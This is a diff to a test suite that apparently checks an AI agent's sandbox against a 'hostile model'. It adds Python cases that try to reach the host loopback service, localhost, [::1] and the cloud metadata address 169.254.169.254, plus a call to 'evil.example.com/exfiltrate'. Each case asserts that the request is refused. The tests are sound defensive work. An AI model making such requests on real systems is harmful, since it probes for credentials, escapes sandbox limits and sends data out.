@@ -54,7 +54,7 @@ interface Hostile {
   expected: string | readonly string[];
   context?: Partial<ToolContext>;
   setup?: (world: World) => Promise<void>;
-  check?: (result: ToolResult, world: World) => void | Promise<void>;
+  check?: (result: ToolResult, world: World, notes: readonly string[]) => void | Promise<void>;
 }
 
 let server: http.Server;
@@ -290,6 +290,47 @@ const table: Hostile[] = [
       expect(result.content.match(/unreachable/g)?.length).toBe(4);
     },
   },
+  {
+    name: 'python asking the egress proxy for the host loopback service',
+    tool: 'python',
+    input: () =>
+      py(
+        `import urllib.request\ntry:\n    urllib.request.urlopen(${JSON.stringify(loopback())}, timeout=5)\n    print('REACHED')\nexcept Exception as e:\n    print('refused', e)`,
+      )(),
+    expected: 'ok',
+    check: (result, _w, notes) => {
+      expect(result.content).toContain('refused HTTP Error 403');
+      expect(notes.join('\n')).toMatch(/network access to 127\.0\.0\.1:\d+ denied \(.*loopback/);
+    },
+  },
+  {
+    name: 'python asking the egress proxy for localhost and the metadata address by https',
+    tool: 'python',
+    input: () =>
+      py(
+        `import urllib.request\nfor url in ['http://localhost:${port}/', 'https://169.254.169.254/latest/meta-data/', 'https://[::1]:${port}/']:\n    try:\n        urllib.request.urlopen(url, timeout=5)\n        print('REACHED', url)\n    except Exception as e:\n        print('refused', url, e)`,
+      )(),
+    expected: 'ok',
+    check: (result, _w, notes) => {
+      expect(result.content).not.toContain('REACHED');
+      expect(result.content.match(/refused/g)?.length).toBe(3);
+      expect(notes.filter((note) => note.includes('denied'))).toHaveLength(3);
+    },
+  },
+  {
+    name: 'python reaching a host off the --allow-domain list',
+    tool: 'python',
+    context: { sandbox: { allowDomains: ['docs.python.org'] } },
+    input: py(
+      "import urllib.request\ntry:\n    urllib.request.urlopen('https://evil.example.com/exfiltrate', timeout=5)\n    print('REACHED')\nexcept Exception as e:\n    print('refused', e)",
+    ),
+    expected: 'ok',
+    check: (result, _w, notes) => {
+      expect(result.content).toContain('refused');
+      expect(notes.join('\n')).toContain('evil.example.com:443 denied');
+      expect(notes.join('\n')).toContain('allowlist');
+    },
+  },
   // The allowlist is not the boundary.
   {
     name: 'node -e deleting the sibling folder recursively',
@@ -399,13 +440,17 @@ describe('the sandbox against a hostile model', () => {
       const workspaceBefore = await snapshot(world.workspace);
       const outsideBefore = await snapshot(world.outside);
       const input = entry.input(world, canaries);
-      const context = contextFor(world.workspace, entry.context ?? {});
+      const notes: string[] = [];
+      const context = contextFor(world.workspace, {
+        progress: (note) => notes.push(note),
+        ...entry.context,
+      });
       const result = await createBuiltinRegistry().call(
         { id: 'hostile', name: entry.tool, arguments: input, raw: JSON.stringify(input) },
         context,
       );
       expect(expected, result.content.slice(0, 800)).toContain(outcome(result));
-      await entry.check?.(result, world);
+      await entry.check?.(result, world, notes);
       expect(result.content).not.toContain(TOKEN);
       expect(await snapshot(world.workspace)).toEqual(workspaceBefore);
       expect(await snapshot(world.outside)).toEqual(outsideBefore);
